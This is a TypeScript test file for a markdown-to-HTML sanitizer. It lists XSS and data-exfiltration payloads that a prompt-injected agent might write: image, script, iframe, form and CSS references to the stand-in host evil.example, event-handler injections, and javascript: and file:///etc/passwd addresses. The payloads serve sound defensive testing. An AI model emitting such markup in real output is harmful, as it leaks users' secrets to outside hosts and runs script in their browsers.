import { expect, test } from "vitest";
import { allowedAddress, allowedTags, marked } from "./markdown-html.ts";

/** What an agent that obeys hostile text might write, to have the reader's browser fetch or do something (product.md "Prompt injection"). */
const hostile = [
  "![x](https://evil.example/p.png?d=secret)",
  "![x][ref]\n\n[ref]: https://evil.example/p.png",
  "[![x](https://evil.example/a.png)](https://evil.example/b)",
  '<img src="https://evil.example/p.gif">',
  "<img src=x onerror=alert(1)>",
  '<picture><source srcset="https://evil.example/p.webp"></picture>',
  "<script>fetch('https://evil.example')</script>",
  "<style>@import url(https://evil.example/a.css)</style>",
  '<link rel="stylesheet" href="https://evil.example/a.css">',
  '<link rel="prefetch" href="https://evil.example/">',
  '<iframe src="https://evil.example"></iframe>',
  '<object data="https://evil.example"></object><embed src="https://evil.example">',
  '<video poster="https://evil.example/p.png" src="https://evil.example/v.mp4"></video>',
  '<svg><image href="https://evil.example/p.svg"/></svg>',
  '<svg onload="fetch(1)"></svg>',
  '<form action="https://evil.example"><input name="key"><button>Send</button></form>',
  '<meta http-equiv="refresh" content="0;url=https://evil.example">',
  '<base href="https://evil.example/">',
  '<div style="background:url(https://evil.example/p.png)">x</div>',
  "<math><mtext><img src=https://evil.example/p></mtext></math>",
  "> quote <img src=https://evil.example/p>\n\n- list ![x](https://evil.example/p)",
  "| a |\n|---|\n| ![x](https://evil.example/p) <img src=y> |",
  "![](data:image/svg+xml;base64,PHN2Zz4=)",
  "# ![x](//evil.example/p.png)",
  "\\![not an image](https://evil.example) `![code](https://evil.example)`",
  "<!-- ![x](https://evil.example/p) -->",
  '![x](https://evil.example/p.png "title" onerror=alert(1))',
  '![x" src="https://evil.example/p](https://evil.example/q)',
];

test.each(hostile)("%s fetches nothing", (text) => {
  const html = String(marked.parse(text));
  const tags = [...html.matchAll(/<\/?([a-z][\w-]*)/gi)].map((match) => match[1]!.toLowerCase());
  expect(tags.filter((tag) => !allowedTags.includes(tag))).toEqual([]);
  expect([...html.matchAll(/<[^>]*\s(src|srcset|style|poster|background|on\w+)=/gi)].map((match) => match[1])).toEqual([]);
  expect(allowedTags.some((tag) => ["img", "iframe", "script", "style", "link", "svg", "video", "form", "object"].includes(tag))).toBe(
    false,
  );
});

test.each(["javascript:alert(1)", "JaVaScRiPt:alert(1)", "data:text/html,x", "vbscript:x", "file:///etc/passwd", "blob:https://x/1"])(
  "%s is no address to follow",
  (address) => expect(allowedAddress.test(address)).toBe(false),
);
